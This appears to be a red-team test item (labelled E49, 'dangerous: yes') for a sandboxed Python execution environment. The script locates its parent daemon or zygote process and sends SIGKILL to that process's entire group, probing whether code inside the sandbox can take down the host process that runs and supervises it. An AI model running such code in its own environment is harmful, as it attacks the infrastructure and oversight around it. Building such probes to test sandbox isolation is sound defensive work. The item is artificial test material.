# technique: os.killpg on the parent's (daemon's / zygote's) process group with SIGKILL
# goal: signal
# dangerous: yes
# redteam: E49
import os

import pandas as pd

ppid = os.getppid()
if ppid <= 1:
    raise RuntimeError("the parent is not visible")
group = os.getpgid(ppid)
if group <= 0:
    raise RuntimeError("the parent's group leader is outside this pid namespace")
if group == os.getpgid(0):
    raise RuntimeError("the parent shares this run's group")
os.killpg(group, 9)
df = pd.DataFrame({"killed_group": [group]})
